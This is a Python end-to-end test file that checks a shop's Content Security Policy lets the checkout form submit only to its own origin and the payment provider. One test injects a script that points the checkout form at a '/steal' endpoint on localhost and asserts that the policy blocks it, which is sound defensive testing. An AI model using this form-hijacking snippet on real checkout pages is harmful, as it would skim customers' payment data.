"""The policy of the pages: it lets the checkout form lead to the provider, and to nobody else."""

from __future__ import annotations

from e2e.market import Market
from e2e.pages.shop import Shop
from e2e.people import Person
from e2e.watch import Watch

SUBMIT_ELSEWHERE = """() => new Promise((stopped) => {
  document.addEventListener("securitypolicyviolation", (event) => stopped(event.effectiveDirective));
  const form = document.querySelector("#checkout-form");
  form.action = "http://127.0.0.1:9/steal";
  form.requestSubmit();
})"""


def test_checkout_form_leads_to_the_provider_under_the_policy(market: Market, shop: Shop, ada: Person) -> None:
    checkout = shop.put_in_cart("pasta-bowl").check_out()
    policy = _policy(shop)

    assert policy["form-action"] == f"'self' {market.sandbox}"
    assert policy["default-src"] == "'none'"
    assert policy["script-src"] == policy["style-src"] == "'self'"
    checkout.go_on(ada)


def test_form_to_anybody_else_is_stopped_by_the_policy(shop: Shop, watch: Watch, ada: Person) -> None:
    checkout = shop.put_in_cart("pasta-bowl").check_out().fill(ada)
    watch.expect("form-action")

    stopped = checkout.page.evaluate(SUBMIT_ELSEWHERE)

    assert stopped == "form-action"


def _policy(shop: Shop) -> dict[str, str]:
    answer = shop.page.request.get(shop.page.url)
    parts = (part.strip().partition(" ") for part in answer.headers["content-security-policy"].split(";"))
    return {name: value for name, _, value in parts}
